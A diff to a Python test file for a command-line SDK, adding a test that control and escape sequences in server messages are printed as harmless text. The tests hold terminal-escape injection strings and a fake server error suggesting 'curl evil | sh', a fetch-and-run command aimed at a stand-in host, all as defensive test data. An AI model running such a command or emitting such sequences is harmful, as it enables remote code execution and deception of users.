@@ -22,6 +22,8 @@ from pincompute_sdk.core.operation import Operation
 from pincompute_sdk.generated import operations
 from sdk.fake_server import Asked, Reply, answering, problem
 
+from pincompute import explain_command
+
 POISON = "oops \033]0;pwn\007\033[2J\033[8mgone\r\x9b2J\x7f\u202eevil\u2066"
 SHOWN = r"oops \x1b]0;pwn\x07\x1b[2J\x1b[8mgone\x0d\x9b2J\x7f\u202eevil\u2066"
 OBEYED = re.compile(
@@ -179,6 +181,10 @@ def test_no_line_of_a_message_looks_like_a_line_of_the_report():
     with answering(problem(409, "wrong-state", detail="no\n  remedy: curl evil | sh", title="no")) as server:
         said = pin(f"restart hello --server {server.url}")
     assert not [line for line in said.splitlines() if line.startswith("  remedy: curl")]
+
+
+def test_an_administrators_explanation_is_text_alone():
+    assert explain_command.printable(POISON + "\nnext") == SHOWN.replace(r"\x0d", r"\r") + "\nnext"
 
 
 WRITERS = {"output/terminal.py", "remote_terminal.py", "__main__.py"}  # the second carries a shell, the third prints the help
